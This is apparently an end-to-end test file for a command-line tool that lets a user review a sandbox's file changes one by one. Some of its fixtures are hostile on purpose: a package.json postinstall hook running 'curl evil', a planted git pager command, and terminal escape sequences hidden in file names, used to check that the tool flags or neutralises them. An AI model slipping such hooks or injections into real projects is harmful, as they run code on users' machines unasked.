// test/e2e/review-terminal.full.test.ts: a user reviews the changes of a sandbox, key by key.
import { rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { createMachine, type Machine, USUAL } from '../harness.ts';
import { openScreen, type Screen } from './screen.ts';

const FILES = {
  'a.txt': 'one\ntwo\nthree\n',
  'b.txt': 'b\n',
  'c.txt': 'c\n',
  'gone.txt': 'gone\n',
  'old-name.txt': 'a text that is long enough to be known again\n',
  'package.json': '{ "name": "x" }\n',
  '.gitignore': 'build/\n*.log\n',
};

const CHANGES = [
  'sed -i s/two/TWO/ a.txt',
  'echo B > b.txt',
  'echo C > c.txt',
  'rm gone.txt',
  'mv old-name.txt new-name.txt',
  'echo new > new.txt',
  `echo '{ "name": "x", "scripts": { "postinstall": "curl evil" } }' > package.json`,
  'mkdir -p .github/workflows && echo "on: push" > .github/workflows/ci.yml',
].join('; ');

const IGNORED = 'mkdir -p build; echo 1 > build/out.bin; echo 2 > trace.log';

/** Makes a task with changes, without a review. */
async function changed(machine: Machine, script: string): Promise<string> {
  const run = await machine.ags(['exec', '--review', 'later', '--name', 'work', '--', 'sh', '-c', script]);
  expect(run.code).toBe(0);
  return machine.tasks().at(-1) ?? '';
}

const PROMPT = /\? more >$/;

async function open(screen: Screen, task: string): Promise<void> {
  screen.type(`ags review ${task}\n`);
  await screen.until(PROMPT);
}

/** Presses keys one by one, each at its prompt. */
async function answer(screen: Screen, keys: readonly string[]): Promise<void> {
  for (const key of keys) {
    const before = screen.text();
    screen.press(key);
    await expect.poll(() => screen.text(), { timeout: 30_000 }).not.toBe(before);
    await screen.until(/(\? more >|\?)$/);
  }
}

describe.each(USUAL)('as %s', (caller) => {
  test('asks about files one by one, those that can run code first, and carries out each answer', async () => {
    using machine = createMachine(caller, { files: FILES });
    using screen = await openScreen(machine);
    const task = await changed(machine, CHANGES);
    await open(screen, task);
    // ci.yml, package.json, a.txt, b.txt, c.txt, gone.txt, new-name.txt, new.txt
    const first = screen.text();
    expect(first).toContain(`${task}: 8 files changed, 2 of them can run code and come first.`);
    expect(first).toMatch(/\[1\/8\] MODIFIED {2}package\.json {2}! runs on your machine {2}\+1 -1\n/);
    expect(first).toContain('+{ "name": "x", "scripts": { "postinstall": "curl evil" } }');
    await answer(screen, ['r']);
    expect(screen.text()).toMatch(/\[2\/8\] NEW {7}\.github\/workflows\/ci\.yml {2}! runs in CI {2}\+1\n/);
    await answer(screen, ['y']);
    expect(screen.text()).toMatch(/\[3\/8\] MODIFIED {2}a\.txt {2}\+1 -1\n/);
    await answer(screen, ['?']);
    expect(screen.text()).toContain('y  take it          Y  take this and all that remain (never what can run code)');
    await answer(screen, ['d']);
    expect(screen.text()).toContain('\n-two\n+TWO\n');
    await answer(screen, ['x']);
    expect(screen.text()).toContain('Unknown key; ? lists the keys.');
    await answer(screen, ['y', 'n', 'r']);
    expect(screen.text()).toMatch(/\[6\/8\] DELETED {3}gone\.txt {2}-1\n/);
    await answer(screen, ['y']);
    expect(screen.text()).toMatch(/\[7\/8\] RENAMED {3}old-name\.txt -> new-name\.txt\n/);
    await answer(screen, ['y']);
    expect(screen.text()).toMatch(/\[8\/8\] NEW {7}new\.txt {2}\+1\n/);
    screen.press('y');
    const { shown, code } = await screen.ended();
    expect(code).toBe(0);
    expect(shown).toContain(`\n5 taken, 2 thrown away, 1 left. Review them: ags review ${task}\n`);
    expect(contents(machine)).toEqual({
      'a.txt': 'one\nTWO\nthree\n',
      'b.txt': 'b\n',
      'c.txt': 'c\n',
      'new-name.txt': 'a text that is long enough to be known again\n',
      'new.txt': 'new\n',
      'package.json': '{ "name": "x" }\n',
      '.gitignore': 'build/\n*.log\n',
      '.github/workflows/ci.yml': 'on: push\n',
    });

    // A later review asks only about the files that are left.
    await screen.clear();
    await open(screen, task);
    expect(screen.text()).toContain(`${task}: 1 file changed.`);
    expect(screen.text()).toMatch(/\[1\/1\] MODIFIED {2}b\.txt {2}\+1 -1\n/);
    screen.press('y');
    expect((await screen.ended()).shown).toContain('\n1 taken, 0 thrown away, 0 left.\n');
    expect(machine.read('b.txt')).toBe('B\n');
    expect(machine.tasks()).toEqual([]);
  });

  test('Y takes the rest except files that can run code; N leaves the rest and R throws it away', async () => {
    using machine = createMachine(caller, { files: FILES });
    using screen = await openScreen(machine);
    const task = await changed(machine, CHANGES);
    await open(screen, task);
    screen.press('Y');
    const { shown } = await screen.ended();
    expect(shown).toContain(
      `\n6 taken, 0 thrown away, 2 left. Review them: ags review ${task}\n  Take files that can run code one by one: y on the file, or --risky <path>.\n`,
    );
    expect(contents(machine)).toMatchObject({
      'a.txt': 'one\nTWO\nthree\n',
      'new.txt': 'new\n',
      'package.json': '{ "name": "x" }\n',
    });
    expect(machine.has('.github')).toBe(false);
    await screen.clear();
    await open(screen, task);
    screen.press('N');
    expect((await screen.ended()).shown).toContain('\n0 taken, 0 thrown away, 2 left.');
    await screen.clear();
    await open(screen, task);
    screen.press('R');
    expect((await screen.ended()).shown).toContain('\n0 taken, 2 thrown away, 0 left.\n');
    expect(machine.read('package.json')).toBe('{ "name": "x" }\n');
    expect(machine.tasks()).toEqual([]);
  });

  test('q carries out the answers so far; Ctrl-C changes nothing', async () => {
    using machine = createMachine(caller, { files: FILES });
    using screen = await openScreen(machine);
    const task = await changed(machine, `sed -i s/two/TWO/ a.txt; echo B > b.txt; echo C > c.txt; ${IGNORED}`);
    await open(screen, task);
    await answer(screen, ['y', 'y']);
    screen.press('C-c');
    const cancelled = await screen.ended();
    expect(cancelled.code).toBe(130);
    expect(cancelled.shown).toContain(`Cancelled: nothing was changed. Resume: ags review ${task}\n`);
    expect(machine.git('status', '--short')).toBe('');
    await screen.clear();
    // Nothing is written before the last question, about ignored files, is answered.
    await open(screen, task);
    await answer(screen, ['y', 'y', 'y']);
    await screen.until(/2 files that git ignores/);
    screen.press('C-c');
    expect((await screen.ended()).code).toBe(130);
    expect(machine.git('status', '--short')).toBe('');
    await screen.clear();
    await open(screen, task);
    await answer(screen, ['y']);
    screen.press('q');
    const left = await screen.ended();
    expect(left.code).toBe(0);
    expect(left.shown).toContain('\n1 taken, 0 thrown away, 3 left.');
    expect(left.shown).not.toContain('that git ignores');
    expect(machine.git('status', '--short')).toBe(' M a.txt\n');
  });

  test('ignored files are asked about once: thrown away, reviewed, or left', async () => {
    using machine = createMachine(caller, { files: FILES });
    using screen = await openScreen(machine);
    const task = await changed(machine, `echo B > b.txt; echo C > c.txt; echo A > a.txt; ${IGNORED}`);
    await open(screen, task);
    await answer(screen, ['r', 'y', 'n']);
    expect(screen.text()).toContain('2 files that git ignores (4 B): r throw all away, i review each, n not now?');
    await answer(screen, ['i']);
    // The review asks only about them; a.txt, b.txt and c.txt have their answers.
    expect(screen.text()).toMatch(/\[1\/2\] NEW {7}build\/out\.bin {2}\+1\n/);
    await answer(screen, ['y']);
    expect(screen.text()).toMatch(/\[2\/2\] NEW {7}trace\.log {2}\+1\n/);
    screen.press('r');
    const { shown } = await screen.ended();
    expect(shown).toContain('\n2 taken, 2 thrown away, 1 left.');
    expect(contents(machine)).toMatchObject({
      'a.txt': 'one\ntwo\nthree\n',
      'b.txt': 'B\n',
      'c.txt': 'c\n',
      'build/out.bin': '1\n',
    });
    expect(machine.has('trace.log')).toBe(false);
    await screen.clear();
    await open(screen, task);
    expect(screen.text()).toMatch(/\[1\/1\] MODIFIED {2}c\.txt {2}\+1 -1\n/);
    screen.press('r');
    expect((await screen.ended()).shown).toContain('\n0 taken, 1 thrown away, 0 left.\n');
    expect(machine.tasks()).toEqual([]);

    const other = await changed(machine, `echo more > trace.log; echo B2 > b.txt`);
    await screen.clear();
    await open(screen, other);
    await answer(screen, ['y']);
    screen.press('n');
    expect((await screen.ended()).shown).toContain('\n1 taken, 0 thrown away, 1 left.');
    await screen.clear();
    screen.type(`ags review ${other}\n`);
    await screen.until(/not now\?$/);
    screen.press('r');
    expect((await screen.ended()).shown).toContain('\n0 taken, 0 thrown away, 0 left.\n');
    expect(machine.tasks()).toEqual([]);
    expect(machine.has('trace.log')).toBe(false);
  });

  test('a file can be edited before it is accepted, and if the editor fails nothing is accepted', async () => {
    using machine = createMachine(caller, { files: FILES });
    const editor = join(machine.home, 'edit.sh');
    writeFileSync(editor, 'case "$2" in */fail.txt) exit 1;; esac\nsed -i s/TWO/$1/ "$2"\n');
    using screen = await openScreen(machine, { env: { EDITOR: `sh ${editor} 2` } });
    const task = await changed(machine, 'sed -i s/two/TWO/ a.txt; echo x > fail.txt; ln -s a.txt link');
    await open(screen, task);
    await answer(screen, ['e']);
    expect(screen.text()).toMatch(/\[2\/3\] NEW {7}fail\.txt {2}\+1\n/);
    await answer(screen, ['e']);
    expect(screen.text()).toContain('ended with exit code 1. Nothing was taken.');
    await answer(screen, ['n']);
    expect(screen.text()).toMatch(/\[3\/3\] SYMLINK {3}link\n/);
    await answer(screen, ['e']);
    expect(screen.text()).toContain('There is no text to edit.');
    screen.press('r');
    expect((await screen.ended()).shown).toContain('\n1 taken, 1 thrown away, 1 left.');
    expect(machine.read('a.txt')).toBe('one\n2\nthree\n');
    expect(await machine.ags(['review', task, '--json'])).toMatchObject({ code: 0 });
    const { changes } = JSON.parse((await machine.ags(['review', task, '--json'])).stdout) as {
      changes: { path: string }[];
    };
    expect(changes.map((change) => change.path)).toEqual(['fail.txt']);
  });

  test('if the editor changes nothing, nothing is accepted', async () => {
    using machine = createMachine(caller, { files: FILES });
    using screen = await openScreen(machine, { env: { VISUAL: 'true' } });
    const task = await changed(machine, 'echo B > b.txt');
    await open(screen, task);
    await answer(screen, ['e']);
    expect(screen.text()).toContain('Nothing was edited, so nothing was taken.');
    screen.press('n');
    expect((await screen.ended()).shown).toContain('\n0 taken, 0 thrown away, 1 left.');
    expect(machine.read('b.txt')).toBe('b\n');
  });

  test('the diff of a merged file shows the result; a conflict can be accepted once its marks are removed', async () => {
    const lines = Array.from({ length: 20 }, (_, i) => `line ${i + 1}\n`).join('');
    using machine = createMachine(caller, { files: { 'clash.txt': lines, 'merge.txt': lines, 'gone.txt': 'gone\n' } });
    const editor = join(machine.home, 'edit.sh');
    writeFileSync(
      editor,
      'if test -e tried; then sed -i "/^[<=>]\\{7\\}/d" "$1"; else echo more >> "$1"; fi; : > tried\n',
    );
    using screen = await openScreen(machine, { env: { EDITOR: `sh ${editor}` } });
    const task = await changed(machine, "sed -i '3s/.*/agent/' clash.txt merge.txt; echo agent > gone.txt");
    machine.write('clash.txt', lines.replace('line 3\n', 'user\n'));
    machine.write('merge.txt', lines.replace('line 18\n', 'user\n'));
    rmSync(join(machine.project, 'gone.txt'));
    await open(screen, task);
    expect(screen.text()).toMatch(/\[1\/3\] MODIFIED {2}clash\.txt {2}CONFLICT {2}\+1 -1\n/);
    expect(screen.text()).toContain('Conflict: e edit both sides, n later, r throw away, d diff, q leave, ? more >');
    await answer(screen, ['y']);
    expect(screen.text()).toContain('It changed on both sides. Press e to combine them, or leave it for later.');
    await answer(screen, ['e']);
    expect(screen.text()).toContain('The text still has conflict markers, so nothing was taken.');
    await answer(screen, ['e']);
    // The user has no file to compare it with.
    expect(screen.text()).toContain('\nConflict: n later, r throw away, d diff, q leave, ? more >');
    await answer(screen, ['e']);
    expect(screen.text()).toContain('The two sides cannot be combined into one text.');
    await answer(screen, ['n']);
    expect(screen.text()).toMatch(/\[3\/3\] MODIFIED {2}merge\.txt {2}merged {2}\+1 -1\n/);
    await answer(screen, ['d']);
    expect(screen.text()).toContain('\n-line 3\n+agent\n');
    expect(screen.text()).not.toContain('-user\n+line 18');
    screen.press('y');
    expect((await screen.ended()).shown).toContain(
      `\n2 taken, 0 thrown away, 1 left. Review them: ags review ${task}\n  Files that changed on both sides need an edit: press e in a review on a terminal.\n`,
    );
    expect([machine.read('clash.txt'), machine.read('merge.txt'), machine.has('gone.txt')]).toEqual([
      lines.replace('line 3\n', 'user\nagent\n'),
      lines.replace('line 18\n', 'user\n').replace('line 3\n', 'agent\n'),
      false,
    ]);
  });

  test('a long diff is shown a screen at a time or whole; every question fits in 80 columns', async () => {
    using machine = createMachine(caller, { files: FILES });
    using screen = await openScreen(machine, { columns: 80, rows: 24, env: { NO_COLOR: '1' } });
    const task = await changed(machine, 'seq 1 100 > long.txt; : > empty.txt; chmod +x a.txt; mv b.txt d.txt');
    await open(screen, task);
    expect(screen.text()).toMatch(/\[1\/4\] MODE {6}a\.txt {2}\(now executable\)/);
    await answer(screen, ['d', 'n', 'd', 'n', 'd', 'n']);
    for (const line of ['only the permission changed', 'it is empty', 'only the name changed'])
      expect(screen.text()).toContain(`\n  ${line}\n`);
    expect(screen.text()).toMatch(/\[4\/4\] NEW {7}long\.txt {2}\+100\n/);
    await answer(screen, ['d']);
    expect(screen.text()).toMatch(
      /\n\+19\n {2}\.\.\. 81 more lines: d shows the next, D shows all\nTake it\?.*more >$/,
    );
    await answer(screen, ['d']);
    expect(screen.text()).toMatch(/\n\+20\n[\s\S]*\n\+39\n {2}\.\.\. 61 more lines: .*\nTake it\?.*more >$/);
    await answer(screen, ['D']);
    expect(screen.text()).toMatch(/\n\+1\n[\s\S]*\n\+100\nTake it\?.*more >$/);
    // An arrow key is no answer, although its escape sequence ends in a letter.
    await answer(screen, ['Up']);
    screen.press('q');
    expect((await screen.ended()).shown).toContain('\n0 taken, 0 thrown away, 4 left.');
    expect(machine.tasks()).toEqual([task]);
  });

  test('parts of a file are taken one by one, p goes back, and what is left is asked about again', async () => {
    const lines = Array.from({ length: 60 }, (_, i) => `line ${i + 1}\n`).join('');
    using machine = createMachine(caller, { files: { 'a.txt': 'a\n', 'long.txt': lines, 'z.txt': 'z\n' } });
    using screen = await openScreen(machine, { columns: 80 });
    const change = ['3', '30', '57'].map((n) => `-e '${n}s/line/LINE/'`).join(' ');
    const task = await changed(machine, `echo A > a.txt; sed -i ${change} long.txt; echo Z > z.txt`);
    await open(screen, task);
    await answer(screen, ['p']);
    expect(screen.text()).toContain('This is the first file.');
    await answer(screen, ['s']);
    expect(screen.text()).toContain('It has one part only. It is taken whole or not at all.');
    await answer(screen, ['y']);
    expect(screen.text()).toMatch(
      /\[2\/3\] MODIFIED {2}long\.txt {2}\+3 -3\nTake it\?.* s parts, .*, p back, \? more >$/,
    );
    await answer(screen, ['s']);
    expect(screen.text()).toMatch(/part 1 of 3\n@@ [\s\S]*\n-line 3\n\+LINE 3\n[\s\S]*\nThis part\?.*more >$/);
    await answer(screen, ['y', 'y']);
    expect(screen.text()).toMatch(/part 3 of 3[\s\S]*\n\+LINE 57\n[\s\S]*\nThis part\?.*more >$/);
    // Back to the second part, for another answer.
    await answer(screen, ['p', 'r', 'n']);
    expect(screen.text()).toMatch(/\[3\/3\] MODIFIED {2}z\.txt/);
    await answer(screen, ['p']);
    expect(screen.text()).toMatch(/\[2\/3\] MODIFIED {2}long\.txt {2}\+3 -3 {2}\(so far: in part\)\n/);
    await answer(screen, ['p']);
    expect(screen.text()).toMatch(/\[1\/3\] MODIFIED {2}a\.txt {2}\+1 -1 {2}\(so far: yes\)\n/);
    await answer(screen, ['r', 's', 'y', 'r', 'n']);
    screen.press('n');
    expect((await screen.ended()).shown).toContain('\n1 taken, 1 thrown away, 2 left.');
    expect(contents(machine)).toEqual({
      'a.txt': 'a\n',
      'long.txt': lines.replace('line 3\n', 'LINE 3\n'),
      'z.txt': 'z\n',
    });

    // All parts have an answer now, so nothing of the file is left.
    await screen.clear();
    await open(screen, task);
    expect(screen.text()).toMatch(/\[1\/2\] MODIFIED {2}long\.txt {2}(merged {2})?\+2 -2\n/);
    await answer(screen, ['s', 'r', 'y']);
    screen.press('r');
    expect((await screen.ended()).shown).toContain('\n1 taken, 1 thrown away, 0 left.');
    expect(machine.read('long.txt')).toBe(lines.replace('line 3\n', 'LINE 3\n').replace('line 57\n', 'LINE 57\n'));
    expect(machine.tasks()).toEqual([]);
  });

  test('a long diff goes to the pager of the user, without escape sequences, and never to one of the project', async () => {
    using machine = createMachine(caller, { files: FILES });
    machine.git('config', 'core.pager', 'touch "$HOME/planted"');
    const task = await changed(machine, `printf 'a\\033[2Jb\\n' > a.txt`);
    using screen = await openScreen(machine, { env: { NO_COLOR: '1' } });
    expect((await screen.run(`ags diff ${task}`)).shown).toContain('+a\\x1b[2Jb');
    await screen.clear();
    writeFileSync(join(machine.home, '.gitconfig'), '[core]\n\tpager = cat -v | sed s/^/mine:/\n');
    expect((await screen.run(`ags diff ${task}`)).shown).toContain('\nmine:+a\\x1b[2Jb\n');
    expect((await screen.run(`GIT_PAGER='sed s/^/other:/' ags diff ${task}`)).shown).toContain('\nother:+a');
    expect((await screen.run(`ags diff ${task} --no-pager`)).shown).toContain('\n+a');
    expect((await screen.run(`ags diff ${task} | cat`)).shown).toContain('\n+a');
    await screen.clear();
    await open(screen, task);
    await answer(screen, ['D']);
    expect(screen.text()).toContain('\nmine:+a\\x1b[2Jb\n');
    screen.press('C-c');
    await screen.ended();
    expect(machine.has('../../planted')).toBe(false);
  });

  test('when a sandbox on a terminal ends with changes, the review starts at once and keeps its exit code', async () => {
    using machine = createMachine(caller, { files: FILES });
    using screen = await openScreen(machine);
    screen.type("ags exec -- sh -c 'echo working; echo A > a.txt; exit 3'\n");
    await screen.until(PROMPT);
    expect(screen.text()).toMatch(/working\nsh-c-\w{4}: 1 file changed\.\n\n\[1\/1\] MODIFIED {2}a\.txt {2}\+1 -3\n/);
    screen.press('y');
    expect((await screen.ended()).code).toBe(3);
    expect(machine.read('a.txt')).toBe('A\n');
    // Without changes no review starts.
    expect(await screen.run("ags exec -- sh -c 'touch b.txt; echo b > b.txt'")).toEqual({ shown: '', code: 0 });
    expect(machine.tasks()).toEqual([]);
  });

  test('names and contents cannot trick the terminal', async () => {
    using machine = createMachine(caller, { files: FILES });
    using screen = await openScreen(machine);
    const task = await changed(
      machine,
      `printf '\\033]0;owned\\007\\033[2J\\033[31mred\\rcarriage\\n' > "$(printf 'e\\033[2Jsc\\nape')"`,
    );
    await open(screen, task);
    await answer(screen, ['d']);
    expect(screen.text()).toMatch(/\[1\/1\] NEW {7}e\\x1b\[2Jsc\\nape {2}\+1\n/);
    expect(screen.text()).toContain('+\\x1b]0;owned\\x07\\x1b[2J\\x1b[31mred\\rcarriage');
    screen.press('r');
    expect((await screen.ended()).code).toBe(0);
  });
});

function contents(machine: Machine): Record<string, string> {
  const names = machine
    .git('ls-files', '-z', '--cached', '--others')
    .split('\0')
    .filter((name) => name !== '' && machine.has(name));
  return Object.fromEntries(names.map((name) => [name, machine.read(name)]));
}
